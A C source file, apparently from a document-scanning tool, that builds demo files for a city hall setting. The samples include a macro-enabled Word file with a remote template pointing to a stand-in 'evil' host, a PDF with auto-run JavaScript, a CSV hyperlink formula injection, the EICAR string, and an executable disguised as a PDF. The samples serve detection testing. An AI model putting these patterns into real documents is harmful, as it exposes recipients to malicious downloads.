/* Small documents of the kinds that reach a city hall, each with one thing in it
 * that the demo shows.  Packages are built by libzip, the PDF by hand.       */
#include "cli/documents.h"

#include "base/buffer.h"
#include "base/text.h"

#include <stdlib.h>
#include <zip.h>

struct part {
	const char *name;
	const char *text;
};

#define XML "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
#define TYPES "http://schemas.openxmlformats.org/package/2006/content-types"
#define RELS "http://schemas.openxmlformats.org/package/2006/relationships"
#define OFFICE "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#define DOCUMENT "application/vnd.openxmlformats-officedocument."
#define DEFAULTS                                                                                      \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package."           \
	"relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
#define W "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
#define PARAGRAPH(text) "<w:p><w:r><w:t>" text "</w:t></w:r></w:p>"
#define BODY(inner) XML "<w:document xmlns:w=\"" W "\"><w:body>" inner "</w:body></w:document>"
#define MAIN_REL(target)                                                                    \
	XML "<Relationships xmlns=\"" RELS "\"><Relationship Id=\"rId1\" Type=\"" OFFICE    \
	    "/officeDocument\" Target=\"" target "\"/></Relationships>"

static const struct part docx[] = {
	{"[Content_Types].xml",
	 XML "<Types xmlns=\"" TYPES "\">" DEFAULTS "<Override PartName=\"/word/document.xml\" ContentType=\""
	     DOCUMENT "wordprocessingml.document.main+xml\"/></Types>"},
	{"_rels/.rels", MAIN_REL("word/document.xml")},
	{"word/document.xml", BODY(PARAGRAPH("御見積書") PARAGRAPH("庁内端末の保守 一式 金 1,320,000円（税込）")
	                           PARAGRAPH("有効期限 令和8年12月28日"))},
	{0},
};

/* A macro project begins with the magic of a compound file; that is all that
 * anybody needs to recognise it, and nothing here could run.                */
static const char macro_project[] = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" "Attribute VB_Name = \"AutoOpen\"";

static const struct part docm[] = {
	{"[Content_Types].xml",
	 XML "<Types xmlns=\"" TYPES "\">" DEFAULTS
	     "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
	     "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document."
	     "macroEnabled.main+xml\"/><Override PartName=\"/word/settings.xml\" ContentType=\"" DOCUMENT
	     "wordprocessingml.settings+xml\"/></Types>"},
	{"_rels/.rels", MAIN_REL("word/document.xml")},
	{"word/_rels/document.xml.rels",
	 XML "<Relationships xmlns=\"" RELS "\"><Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/"
	     "office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"rId2\""
	     " Type=\"" OFFICE "/settings\" Target=\"settings.xml\"/></Relationships>"},
	{"word/settings.xml",
	 XML "<w:settings xmlns:w=\"" W "\" xmlns:r=\"" OFFICE "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"},
	{"word/_rels/settings.xml.rels",
	 XML "<Relationships xmlns=\"" RELS "\"><Relationship Id=\"rId1\" Type=\"" OFFICE
	     "/attachedTemplate\" Target=\"http://template.example/evil.dotm\" TargetMode=\"External\"/>"
	     "</Relationships>"},
	{"word/document.xml", BODY(PARAGRAPH("様式第3号（固定資産税）") PARAGRAPH("県市町村課あて 回答期限 11月30日"))},
	{"word/vbaProject.bin", macro_project},
	{0},
};

#define S "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
#define CELL(ref, text) "<c r=\"" ref "\" t=\"inlineStr\"><is><t>" text "</t></is></c>"
static const struct part xlsx[] = {
	{"[Content_Types].xml",
	 XML "<Types xmlns=\"" TYPES "\">" DEFAULTS "<Override PartName=\"/xl/workbook.xml\" ContentType=\""
	     DOCUMENT "spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\""
	     " ContentType=\"" DOCUMENT "spreadsheetml.worksheet+xml\"/></Types>"},
	{"_rels/.rels", MAIN_REL("xl/workbook.xml")},
	{"xl/workbook.xml",
	 XML "<workbook xmlns=\"" S "\" xmlns:r=\"" OFFICE "\"><sheets><sheet name=\"抽出\" sheetId=\"1\""
	     " r:id=\"rId1\"/></sheets></workbook>"},
	{"xl/_rels/workbook.xml.rels",
	 XML "<Relationships xmlns=\"" RELS "\"><Relationship Id=\"rId1\" Type=\"" OFFICE
	     "/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"},
	{"xl/worksheets/sheet1.xml",
	 XML "<worksheet xmlns=\"" S "\"><sheetData><row r=\"1\">" CELL("A1", "所在") CELL("B1", "所有者")
	     CELL("C1", "評価額") "</row><row r=\"2\">" CELL("A2", "青波市本町1-1") CELL("B2", "架空 太郎")
	     "<c r=\"C2\"><v>12345000</v></c></row></sheetData></worksheet>"},
	{0},
};

static struct result add_part(zip_t *zip, const char *name, zip_flags_t encoding, const void *bytes,
                              size_t len, struct why *why)
{
	zip_source_t *source = zip_source_buffer(zip, bytes, len, 0);
	if (source && zip_file_add(zip, name, source, encoding) >= 0)
		return ok();
	zip_source_free(source);
	return fail(why, E_MEMORY, name, "the demo's package cannot be built");
}

static struct result take_back(zip_source_t *from, struct arena *arena, struct slice *out,
                               struct why *why)
{
	enum { MOST = 1 << 20 };
	uint8_t *bytes = arena_alloc(arena, MOST);
	if (!bytes || zip_source_open(from) < 0)
		return fail(why, E_MEMORY, "", "the demo's package cannot be read back");
	zip_int64_t n = zip_source_read(from, bytes, MOST);
	zip_source_close(from);
	*out = slice_of(bytes, n > 0 ? (size_t)n : 0);
	return n > 0 ? ok() : fail(why, E_SYSTEM, "", "the demo's package cannot be read back");
}

typedef struct result fill_fn(zip_t *zip, const void *from, struct why *why);

static struct result build(fill_fn *fill, const void *from, struct arena *arena, struct slice *out,
                           struct why *why)
{
	zip_source_t *target = zip_source_buffer_create(NULL, 0, 0, NULL);
	if (!target)
		return fail(why, E_MEMORY, "", "no memory");
	zip_source_keep(target);
	zip_t *zip = zip_open_from_source(target, ZIP_TRUNCATE, NULL);
	struct result done = zip ? fill(zip, from, why) : fail(why, E_MEMORY, "", "no memory");
	if (done.code == OK && zip_close(zip) < 0)
		done = fail(why, E_SYSTEM, "", "%s", zip_strerror(zip));
	if (done.code != OK && zip)
		zip_discard(zip);
	if (done.code == OK)
		done = take_back(target, arena, out, why);
	zip_source_free(target);
	return done;
}

static struct result fill_parts(zip_t *zip, const void *from, struct why *why)
{
	for (const struct part *part = from; part->name; part++)
		TRY(add_part(zip, part->name, ZIP_FL_ENC_UTF_8, part->text, strlen(part->text), why));
	return ok();
}

/* Names in CP932 without a flag, as Japanese Windows has always written them. */
static struct result fill_cp932(zip_t *zip, const void *from, struct why *why)
{
	struct buffer name;
	struct result done = ok();
	for (const struct demo_document *d = from; done.code == OK && d->name; d++) {
		buffer_init(&name, 512);
		done = cp932_from_utf8(slice_str(d->name), &name, why);
		if (done.code == OK)
			done = add_part(zip, buffer_cstr(&name), ZIP_FL_ENC_RAW, d->bytes.at, d->bytes.len, why);
		buffer_done(&name);
	}
	return done;
}

/* ---- the PDF ------------------------------------------------------------ */

static const char *const pdf_objects[] = {
	"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('hello'\\))>>>>",
	"<</Type/Pages/Kids[3 0 R]/Count 1>>",
	("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
	 "/Resources<</Font<</F1 5 0 R>>>>>>"),
	"<</Length 60>>\nstream\nBT /F1 18 Tf 72 760 Td (Invitation: policy workshop) Tj ET \n\nendstream",
	"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
};

static struct result make_pdf(struct arena *arena, struct slice *out, struct why *why)
{
	enum { COUNT = sizeof pdf_objects / sizeof *pdf_objects };
	size_t at[COUNT], xref;
	struct buffer b;
	buffer_init(&b, 65536);
	buffer_put_str(&b, "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n");
	for (size_t i = 0; i < COUNT; i++) {
		at[i] = b.len;
		buffer_printf(&b, "%zu 0 obj\n%s\nendobj\n", i + 1, pdf_objects[i]);
	}
	xref = b.len;
	buffer_printf(&b, "xref\n0 %d\n0000000000 65535 f \n", COUNT + 1);
	for (size_t i = 0; i < COUNT; i++)
		buffer_printf(&b, "%010zu 00000 n \n", at[i]);
	buffer_printf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%zu\n%%%%EOF\n", COUNT + 1, xref);
	*out = arena_copy(arena, buffer_slice(&b));
	buffer_done(&b);
	return out->at ? ok() : fail(why, E_MEMORY, "", "no memory");
}

/* ---- the rest ----------------------------------------------------------- */

/* The EICAR test file, put together here so that this source is not one. */
static struct result make_eicar(struct arena *arena, struct slice *out, struct why *why)
{
	const char *text = arena_printf(arena, "X5O!P%%@AP[4\\PZX54(P^)7CC)7}$%s-%s-ANTIVIRUS-TEST-FILE!$H+H*",
	                                "EICAR", "STANDARD");
	*out = slice_str(text);
	return text ? ok() : fail(why, E_MEMORY, "", "no memory");
}

static struct result make_csv(struct arena *arena, struct slice *out, struct why *why)
{
	struct buffer b;
	buffer_init(&b, 4096);
	struct result done = cp932_from_utf8(
		SLICE("氏名,電話\r\n架空 花子,=HYPERLINK(\"http://evil.example/\")\r\n髙﨑 一郎,072-000-0000\r\n"), &b, why);
	if (done.code == OK)
		*out = arena_copy(arena, buffer_slice(&b));
	buffer_done(&b);
	return done;
}

static struct result make_zip(struct arena *arena, struct slice *out, struct why *why)
{
	struct demo_document members[3] = {{.name = "見積書（表紙）.docx"}, {.name = "連絡先一覧.csv"}};
	TRY(build(fill_parts, docx, arena, &members[0].bytes, why));
	TRY(make_csv(arena, &members[1].bytes, why));
	return build(fill_cp932, members, arena, out, why);
}

static struct result make_damaged(struct arena *arena, struct slice *out, struct why *why)
{
	TRY(build(fill_parts, docx, arena, out, why));
	out->len /= 2;
	return ok();
}

static struct result make_program(struct arena *arena, struct slice *out, struct why *why)
{
	uint8_t *bytes = arena_alloc(arena, 1024);
	if (!bytes)
		return fail(why, E_MEMORY, "", "no memory");
	memcpy(bytes, "MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF", 14);
	memcpy(bytes + 128, "PE\0\0\x4C\x01", 6);
	bytes[60] = 128;
	*out = slice_of(bytes, 1024);
	return ok();
}

static struct result make_docx(struct arena *a, struct slice *out, struct why *why)
{
	return build(fill_parts, docx, a, out, why);
}

static struct result make_docm(struct arena *a, struct slice *out, struct why *why)
{
	return build(fill_parts, docm, a, out, why);
}

static struct result make_xlsx(struct arena *a, struct slice *out, struct why *why)
{
	return build(fill_parts, xlsx, a, out, why);
}

struct result demo_document(enum demo_kind kind, struct arena *arena, struct demo_document *out,
                            struct why *why)
{
	static const struct {
		const char *name;
		struct result (*make)(struct arena *arena, struct slice *out, struct why *why);
	} rows[] = {
		[DEMO_DOCX] = {"見積書.docx", make_docx},
		[DEMO_MACRO] = {"様式第3号（固定資産税）.docm", make_docm},
		[DEMO_PDF] = {"開催案内.pdf", make_pdf},
		[DEMO_ZIP] = {"添付資料一式.zip", make_zip},
		[DEMO_CSV] = {"参加者名簿.csv", make_csv},
		[DEMO_DAMAGED] = {"途中で切れた書類.docx", make_damaged},
		[DEMO_DISGUISED] = {"請求書.pdf", make_program},
		[DEMO_VIRUS] = {"受信ファイル.txt", make_eicar},
		[DEMO_LEDGER] = {"固定資産課税台帳（抽出）.xlsx", make_xlsx},
	};
	*out = (struct demo_document){.name = rows[kind].name};
	return rows[kind].make(arena, &out->bytes, why);
}
